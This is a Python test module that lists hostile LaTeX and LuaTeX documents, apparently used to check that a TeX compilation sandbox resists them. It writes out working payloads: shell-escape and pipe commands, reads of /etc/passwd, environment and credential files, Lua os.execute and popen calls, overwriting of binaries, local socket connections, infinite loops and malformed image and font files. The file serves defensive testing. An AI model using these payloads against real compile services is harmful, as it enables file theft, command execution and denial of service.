"""What a hostile document can try. Each attack is a document; what must not come of it is checked elsewhere.

`@SECRET@` stands for a file of the host that everybody there may read, `@PDF@` for a PDF of another user,
`@OPEN@` for a folder there that everybody may write to, `@PORT@` for a port on which somebody listens.
"""

# ruff: noqa: E501 - an attack is easier to read in one line
import struct
import zlib
from collections.abc import Mapping
from dataclasses import dataclass, field

from curricle.engines.tex import ENGINES, Engine

LUA: tuple[Engine, ...] = ("lualatex",)
PDF: tuple[Engine, ...] = ("pdflatex",)
XE: tuple[Engine, ...] = ("xelatex",)


@dataclass(frozen=True)
class Attack:
    """One thing to try."""

    name: str
    body: str
    preamble: str = ""
    engines: tuple[Engine, ...] = ENGINES
    files: Mapping[str, bytes] = field(default_factory=dict)
    endless: bool = False  # whether it can only be ended by its limits

    def __str__(self) -> str:
        return self.name


def lua(name: str, code: str, *, endless: bool = False) -> Attack:
    """An attack in Lua, from a file so that nothing has to be escaped."""
    show = "\nif got then tex.sprint(-2, tostring(got)) end texio.write_nl('log', tostring(got))"
    body = "x \\directlua{dofile('attack.lua')}"
    return Attack(name, body, "", LUA, {"attack.lua": (code + show).encode()}, endless)


def picture(width: int, height: int, rows: bytes) -> bytes:
    """A PNG that says it is this large."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)
    packed = zlib.compress(rows, 9)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


CIRCLE = b"""%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 99999999>>endobj
trailer<</Root 1 0 R/Size 3>>
%%EOF
"""
SHOW_LEAK = "\\IfFileExists{leak.tex}{\\input{leak.tex}}{}"
GRAPHIC = "\\usepackage{graphicx}"

READING = (
    Attack("shell escape", f"x\\immediate\\write18{{cat @SECRET@ > leak.tex}}{SHOW_LEAK}"),
    Attack(
        "shell escape by package",
        f"x\\ShellEscape{{cat @SECRET@ > leak.tex}}{SHOW_LEAK}",
        "\\usepackage{shellesc}",
    ),
    Attack("pipe as input", 'x\\input{|"cat @SECRET@"}'),
    Attack(
        "pipe as output", 'x\\newwrite\\w\\immediate\\openout\\w="|cat > @OPEN@/x"\\immediate\\write\\w{x}'
    ),
    Attack(
        "first line", "x", "", PDF, {"main.tex": b"%&lualatex --shell-escape\n\\input{rest}", "rest.tex": b""}
    ),
    Attack("input", "x\\input{@SECRET@}"),
    Attack("primitive input", "x\\csname @@input\\endcsname @SECRET@ "),
    Attack("read", "x\\newread\\r\\openin\\r=@SECRET@ \\loop\\read\\r to\\l \\l\\ifeof\\r\\else\\repeat"),
    Attack("verbatim", "x\\verbatiminput{@SECRET@}", "\\usepackage{verbatim}"),
    Attack("listing", "x\\lstinputlisting{@SECRET@}", "\\usepackage{listings}"),
    Attack("climbing", "x\\input{../../../../../../../..@SECRET@}"),
    Attack("tilde", "x\\input{\\string~/.bashrc}\\input{\\string~root/.profile}"),
    Attack("file of the system", "x\\input{/etc/passwd}\\input{/etc/hostname}"),
    Attack("environment", "x\\input{/proc/self/environ}\\input{/proc/1/environ}"),
    Attack("own process", "x\\input{/proc/self/maps}\\input{/proc/self/cmdline}"),
    Attack("device", "x\\input{/dev/zero}\\input{/dev/stdin}\\input{/dev/urandom}"),
    Attack("terminal", "x\\read-1 to\\l \\l\\read16 to\\l"),
    Attack("stream", "x\\immediate\\pdfobj stream file{@SECRET@}\\pdfrefobj\\pdflastobj", engines=PDF),
    Attack("dump", "x\\message{\\pdffiledump offset 0 length 99{@SECRET@}}", engines=PDF),
    Attack("sum", "x\\message{\\pdfmdfivesum file{@SECRET@} \\pdffilesize{@SECRET@}}", engines=PDF),
    Attack("page of another", "x\\includegraphics{@PDF@}", GRAPHIC),
    Attack("page by primitive", "x\\XeTeXpdffile @PDF@ ", engines=XE),
    Attack("map of fonts", "x\\pdfmapfile{@SECRET@}\\font\\f=cmr10 \\f x", engines=PDF),
    Attack("font by path", 'x\\font\\f="[@SECRET@]" \\f x', engines=("xelatex", "lualatex")),
    Attack("special stream", "x\\special{pdf:fstream @a (@SECRET@)}", engines=XE),
    Attack("special file", "x\\special{psfile=@SECRET@}\\special{pdf:image (@PDF@)}", engines=XE),
    Attack(
        "special command",
        'x\\special{dvipdfmx:config D "cp @SECRET@ @OPEN@/x"}\\special{psfile=a.eps}',
        engines=XE,
    ),
    Attack("attachment", "x\\embedfile{@SECRET@}", "\\usepackage{embedfile}"),
    Attack("names of programs", "x", files={"latexmkrc": b"system('cp @SECRET@ @OPEN@/x')"}),
    Attack(
        "settings",
        f"x\\immediate\\write18{{cat @SECRET@ > leak.tex}}{SHOW_LEAK}",
        files={"texmf.cnf": b"shell_escape=t\nopenin_any=a\n"},
    ),
    Attack(
        "bibliography",
        "\\cite{k}\\bibliographystyle{@SECRET@}\\bibliography{@SECRET@,refs}",
        files={"refs.bib": b"@book{k}"},
    ),
    Attack(
        "auxiliary",
        "x\\makeatletter\\immediate\\write\\@auxout{\\string\\@input{@SECRET@}\\string\\citation{k}\\string\\bibdata{refs}}",
        files={"refs.bib": b"@book{k}"},
    ),
    Attack(
        "control file",
        'x\\newwrite\\w\\immediate\\openout\\w=main.bcf \\immediate\\write\\w{<bcf:controlfile xmlns:bcf="https://sourceforge.net/projects/biblatex"><bcf:bibdata section="0"><bcf:datasource type="file" datatype="bibtex">@SECRET@</bcf:datasource></bcf:bibdata></bcf:controlfile>}',
        files={"refs.bib": b"@book{k}"},
    ),
    lua("lua reads", "local f = io.open('@SECRET@') got = f and f:read('*a')"),
    lua(
        "lua runs",
        "got = os.execute('cat @SECRET@ > leak.txt') local f = io.open('leak.txt') got = f and f:read('*a')",
    ),
    lua("lua opens a pipe", "local f = io.popen('cat @SECRET@') got = f and f:read('*a')"),
    lua("lua becomes another program", "got = os.exec{'cat', '@SECRET@'}"),
    lua("lua starts a program", "got = os.spawn{'cp', '@SECRET@', '@OPEN@/x'}"),
    lua(
        "lua looks around",
        "got = '' for _, d in ipairs{'/', '/tmp', '/home', '/root', '/proc', '@OPEN@'} do if lfs.isdir(d) then for n in lfs.dir(d) do got = got .. ' ' .. d .. '/' .. n end end end",
    ),
    lua(
        "lua asks its environment",
        "got = '' for k, v in pairs(os.env or {}) do got = got .. k .. '=' .. v end got = got .. tostring(os.getenv('PLANTED_SECRET'))",
    ),
    lua(
        "lua links",
        "lfs.link('@SECRET@', 'main.toc', true) lfs.link('@SECRET@', 'main.bbl') local f = io.open('main.toc') got = f and f:read('*a')",
    ),
    lua(
        "lua links its log",
        "lfs.link('@SECRET@', 'main.out', true) os.remove('main.pdf') lfs.link('@PDF@', 'main.pdf', true)",
    ),
    lua("lua calls C", "got = require('ffi').C.getpid()"),
    lua("lua loads a library", "got = package.loadlib('libc.so.6', 'system')"),
    lua(
        "lua takes another program's name",
        "kpse.set_program_name('latexmk') got = kpse.find_file('@SECRET@')",
    ),
    lua("lua reads memory", "local f = io.open('/proc/1/mem', 'r+b') got = f and f:read(10)"),
)
WRITING = (
    Attack("write to a path", "x\\newwrite\\w\\immediate\\openout\\w=@OPEN@/x \\immediate\\write\\w{x}"),
    Attack("write above", "x\\newwrite\\w\\immediate\\openout\\w=../x \\immediate\\write\\w{x}"),
    Attack("write a dot file", "x\\newwrite\\w\\immediate\\openout\\w=.bashrc \\immediate\\write\\w{x}"),
    Attack("write its own page", "x\\newwrite\\w\\immediate\\openout\\w=main.pdf \\immediate\\write\\w{x}"),
    Attack(
        "write itself", "x\\newwrite\\w\\immediate\\openout\\w=main.tex \\immediate\\write\\w{\\string\\bye}"
    ),
    Attack(
        "write with its name", "x\\newwrite\\w\\immediate\\openout\\w=\\jobname.log \\immediate\\write\\w{x}"
    ),
    lua("lua writes", "local f = io.open('@OPEN@/x', 'w') if f then f:write('x') f:close() end"),
    lua(
        "lua removes",
        "os.remove('@OPEN@/precious') os.remove('@SECRET@') os.rename('@OPEN@/precious', '@OPEN@/x')",
    ),
    lua(
        "lua changes programs",
        "for _, p in ipairs{'/usr/bin/pdflatex', '/kit/keeper.pyc', '/kit/formats/pdflatex.fmt', '/usr/share/texmf/ls-R'} do local f = io.open(p, 'r+b') if f then f:write('xxxx') f:close() got = 'CHANGED' end end",
    ),
    lua("lua empties its folder", "for n in lfs.dir('.') do os.remove(n) end"),
    lua(
        "lua makes folders where files should be",
        "os.remove('main.pdf') lfs.mkdir('main.pdf') lfs.mkdir('main.bbl') os.remove('main.aux') lfs.mkdir('main.aux')",
    ),
    lua(
        "lua gives odd names",
        "for _, n in ipairs{'-x.aux', 'a\\nb.aux', '\\27[31m.aux', string.rep('x', 250) .. '.aux', '\\255\\254.aux'} do local f = io.open(n, 'w') if f then f:write('x') f:close() end end",
    ),
    lua(
        "lua poisons caches",
        "for _, d in ipairs{'/tmp/luatex-cache', '/lua', '/var/cache/fontconfig', '/var/lib/texmf'} do local f = io.open(d .. '/names/luaotfload-names.luc', 'w') if f then f:write('x') got = 'CHANGED' end end",
    ),
)
CONNECTING = (
    lua(
        "lua connects",
        "local s = require('socket') local c = s.tcp() c:settimeout(2) got = c:connect('127.0.0.1', @PORT@)",
    ),
    lua("lua sends", "local s = require('socket').udp() got = s:sendto('x', '127.0.0.1', @PORT@)"),
    lua("lua fetches", "got = require('socket.http').request('http://127.0.0.1:@PORT@/')"),
    Attack(
        "fetch",
        "x\\immediate\\write18{curl http://127.0.0.1:@PORT@/}\\includegraphics{http://127.0.0.1:@PORT@/x.png}",
        GRAPHIC,
    ),
)
ENDLESS = (
    Attack("loop", "\\loop\\iftrue\\repeat", endless=True),
    Attack("loop in the preamble", "x", "\\loop\\iftrue\\repeat", endless=True),
    Attack("loop at the end", "x", "\\AtEndDocument{\\loop\\iftrue\\repeat}", endless=True),
    Attack("tail call", "\\def\\a{\\a}\\a", endless=True),
    Attack("pages", "\\loop x\\newpage\\iftrue\\repeat", endless=True),
    Attack("empty pages", "\\loop\\shipout\\hbox{}\\iftrue\\repeat", endless=True),
    Attack(
        "paragraphs",
        "\\loop\\setbox0\\vbox{\\hsize10pt\\romannumeral9999\\par}\\iftrue\\repeat",
        endless=True,
    ),
    Attack("printing", "\\loop\\message{\\romannumeral9999}\\iftrue\\repeat", endless=True),
    Attack("log", "\\batchmode\\loop\\wlog{\\romannumeral9999}\\iftrue\\repeat", endless=True),
    Attack("errors", "\\batchmode\\loop\\errmessage{x}\\undefined\\iftrue\\repeat"),
    Attack(
        "disk",
        "\\newwrite\\w\\immediate\\openout\\w=x \\loop\\immediate\\write\\w{\\romannumeral9999}\\iftrue\\repeat",
        endless=True,
    ),
    Attack(
        "many files",
        "\\newwrite\\w\\count1=0 \\loop\\immediate\\openout\\w=\\number\\count1 \\immediate\\closeout\\w\\advance\\count1 by1 \\iftrue\\repeat",
        endless=True,
    ),
    Attack(
        "style of a bibliography",
        "\\cite{k}\\bibliographystyle{loop}\\bibliography{refs}",
        files={
            "refs.bib": b"@book{k}",
            "loop.bst": b"ENTRY {a}{}{}\nREAD\nFUNCTION {f} { { #1 } { skip$ } while$ }\nEXECUTE {f}\n",
        },
        endless=True,
    ),
    lua("lua loop", "while true do end", endless=True),
    lua("lua sleeps", "while true do if os.sleep then os.sleep(100) end end", endless=True),
    lua("lua pattern", "got = string.rep('a', 40):find(string.rep('a*', 40) .. 'b')", endless=True),
    lua(
        "lua pipe to itself",
        "while true do local f = io.open('/dev/zero') if f then f:read(10^6) end end",
        endless=True,
    ),
    lua(
        "lua fills the scratch folder",
        "for n = 1, 99 do local f = io.open('/tmp/' .. n, 'w') if f then f:write(string.rep('x', 10^7)) f:close() end end",
    ),
    lua(
        "lua makes folders without end",
        "local n = 0 while true do n = n + 1 lfs.mkdir('d' .. n) end",
        endless=True,
    ),
    lua("lua goes deep", "while true do lfs.mkdir('d') lfs.chdir('d') end", endless=True),
)
GREEDY = (
    Attack(
        "expansion",
        "".join(
            f"\\def\\{a}{{\\{b}\\{b}\\{b}\\{b}}}"
            for a, b in zip("abcdefghijklmn", "bcdefghijklmno", strict=True)
        )
        + "\\edef\\o{oooooooooo}\\edef\\x{\\a}",
    ),
    Attack("groups", "\\def\\a{{\\a}}\\a"),
    Attack(
        "boxes",
        "\\newcount\\n\\loop\\setbox0\\vbox{\\unvbox0 \\hbox{xxxxxxxxx}}\\iftrue\\repeat",
        endless=True,
    ),
    Attack(
        "strings",
        "\\count1=0 \\loop\\expandafter\\gdef\\csname x\\number\\count1\\endcsname{}\\advance\\count1 by1 \\iftrue\\repeat",
        endless=True,
    ),
    Attack("marks", "\\count1=0 \\loop\\special{\\romannumeral99999}\\iftrue\\repeat", endless=True),
    Attack("itself", "x\\input{main}"),
    Attack("files within files", "x\\input{a}", files={"a.tex": b"\\input{b}", "b.tex": b"\\input{a}"}),
    Attack("a very long line", "x\\input{long}", files={"long.tex": b"x" * 1_900_000}),
    Attack("a large number", "\\message{\\romannumeral2000000000}", endless=True),
    Attack(
        "growing from pass to pass",
        "\\InputIfFileExists{grow}{}{}\\newwrite\\w\\immediate\\openout\\w=main.toc \\count1=0 \\loop\\immediate\\write\\w{x}\\advance\\count1 by1 \\ifnum\\count1<\\pdfuniformdeviate 9999 \\repeat",
        engines=PDF,
    ),
    Attack(
        "a picture that says it is huge",
        "\\includegraphics{a.png}",
        GRAPHIC,
        files={"a.png": picture(60000, 60000, b"\0" * 1000)},
    ),
    Attack(
        "a picture that is huge",
        "\\includegraphics{a.png}",
        GRAPHIC,
        files={"a.png": picture(8000, 8000, b"\0" * (8000 * 32001))},
    ),
    Attack(
        "a broken picture",
        "\\includegraphics{a.jpg}",
        GRAPHIC,
        files={"a.jpg": b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03" + b"\xff" * 500},
    ),
    Attack("a PDF in a circle", "\\includegraphics{a.pdf}", GRAPHIC, files={"a.pdf": CIRCLE}),
    Attack("a broken font", "\\font\\f=bad \\f x", files={"bad.tfm": b"\xff" * 4000}),
    Attack(
        "a broken outline font",
        '\\font\\f="[bad.otf]" \\f x',
        engines=("xelatex", "lualatex"),
        files={"bad.otf": b"OTTO\x00\x0f" + b"\xff" * 4000},
    ),
    Attack("a font that is not there", "\\font\\f=nosuchfont \\f x\\font\\g=cmr10 at 123.4pt \\g x"),
    Attack(
        "dimensions",
        "\\pdfpagewidth=16000pt\\pdfpageheight=16000pt\\vrule width16000pt height16000pt",
        engines=PDF,
    ),
    lua("lua memory", "local t = {} while true do t[#t + 1] = string.rep('x', 10^7) .. #t end", endless=True),
    lua("lua one large string", "got = #string.rep('x', 2^40)"),
    lua("lua stack", "local function f() return 1 + f() end got = f()"),
    lua(
        "lua coroutines",
        "local t = {} while true do t[#t + 1] = coroutine.create(function() end) end",
        endless=True,
    ),
    lua(
        "lua crooked code",
        "local s = string.dump(function() return 1 end) for n = 20, #s do pcall(function() load(s:sub(1, n) .. '\\255\\255' .. s:sub(n + 3), '', 'b')() end) end",
    ),
    lua("lua frees twice", "local n = node.new('glyph') node.free(n) node.free(n) node.flush_list(n)"),
    lua("lua leaves", "os.exit(0)"),
    lua("lua crashes", "local n = node.new('hlist') n.head = n tex.box[0] = n node.copy_list(n)"),
)
ATTACKS = (*READING, *WRITING, *CONNECTING, *ENDLESS, *GREEDY)
